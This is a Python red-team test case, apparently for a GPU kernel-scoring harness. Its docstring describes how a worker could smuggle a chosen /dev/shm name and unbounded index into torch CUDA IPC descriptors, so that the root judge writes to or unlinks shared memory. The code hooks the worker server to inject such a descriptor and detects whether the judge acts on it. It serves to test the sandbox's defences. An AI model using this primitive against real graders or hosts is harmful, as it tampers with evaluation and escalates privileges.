"""X33 on the GPU path: the output descriptor names the shared-memory file, and the offset in it, that the
judge (root, outside the sandbox) opens, resizes, writes and may unlink when it lets go of the output.

Written blind (the red team's round 2 had no GPU): to be run on one before it is trusted either way.

The judge validates args[1..3] of the descriptor's `cuda_ipc` list and hands all eight to
`torch.UntypedStorage._new_shared_cuda` (scoring/shared_tensors.py, OutputOpener.open). args[4] and args[5]
are torch's IPC reference counter: a POSIX shared-memory name and an int64 index. When the judge frees the
storage (the next shape's `OutputOpener()` drops the last one's, scoring/judge/link.py `shape_start`), torch's
deleter (torch/csrc/StorageSharing.cpp, THPStorage_newSharedCuda) runs in the judge:
RefcountedMapAllocator(name, SHAREDMEM | NOCREATE, 80000 bytes) = shm_open(/dev/shm/<name>, O_RDWR) with
root's rights, ftruncate and a NUL written at byte 0 when the file is smaller, refcount++ at byte 0, then
`*(int64*)(data + 8 * index) -= 1` with no bound on index (a write anywhere relative to that mapping, in the
root judge's address space), refcount--, and shm_unlink(name) when that reaches 0 (aten/src/ATen/
MapAllocator.cpp). /dev/shm is the host's, and the judge is root: any object there, whoever owns it.

This solution makes its own file in /dev/shm (the one object it may write itself, so the run harms nothing
else) with a refcount of 1 and a marker at index 1, names it with index 1 in every descriptor, and on a
later shape looks: the file gone (unlinked by the judge) or the marker decremented means the judge acted on
the worker's name. It then returns zeros (incorrect); while the judge never touches it, it stays honest.

What the design should say: the judge opens the worker's memory with its own counter (or none), never a
name or an offset from the worker. What it does now (scoring/shared_tensors.py, OutputOpener.open): only a
name of the form torch gives its own counter files and an index inside such a file reach torch, so this
descriptor is refused before anything is opened, a contract failure (X05) on every call: incorrect.
"""

import os
import sys

import torch

from _correct import correct

EXPECTED = {
    "class": "X33",
    "cpu": {"not_exercised": "the CPU profile copies the output into the judge's mailbox; no IPC handle"},
    "gpu": {"status": "incorrect", "detail": "X05"},
}

NAME = f"ceiling-x33-counter-{os.getpid()}-{os.urandom(4).hex()}"
SIZE = 8 * 10000 + 64 + 4096  # torch's counter file and its header, with room: never resized
INDEX = 1
MARKER = 1 << 40
_server = sys.modules.get("scoring.worker.server")
_state = {"made": False, "escaped": None}


def _make_file() -> None:
    fd = os.open(f"/dev/shm/{NAME}", os.O_RDWR | os.O_CREAT | os.O_EXCL, 0o600)
    os.ftruncate(fd, SIZE)
    os.pwrite(fd, (1).to_bytes(4, "little"), 0)  # the header's refcount: the judge's ++/-- leaves it at 1
    os.pwrite(fd, MARKER.to_bytes(8, "little", signed=True), 64 + 8 * INDEX)
    os.close(fd)
    _state["made"] = True


def _judge_wrote_it() -> bool:
    path = f"/dev/shm/{NAME}"
    if not os.path.exists(path):
        return True
    with open(path, "rb") as f:
        f.seek(64 + 8 * INDEX)
        return int.from_bytes(f.read(8), "little", signed=True) != MARKER


if _server is not None and torch.cuda.is_available():
    _describe = _server.describe_output

    def _describe_with_our_counter(out, mailbox):
        desc = _describe(out, mailbox)
        if isinstance(desc.get("cuda_ipc"), list):
            if not _state["made"]:
                _make_file()
            shared = list(desc["cuda_ipc"])
            shared[4] = __import__("base64").b64encode(NAME.encode()).decode()
            shared[5] = INDEX
            desc["cuda_ipc"] = shared
        return desc

    _server.describe_output = _describe_with_our_counter


def run(state, a, a_scale):
    if _state["made"] and _judge_wrote_it():
        print(f"X33 escape: the judge (root) opened and wrote /dev/shm/{NAME}, a name the worker chose", flush=True)
        return torch.zeros((a.shape[0], state["b"].shape[0]), dtype=torch.bfloat16, device=a.device)
    return correct(state, a, a_scale)
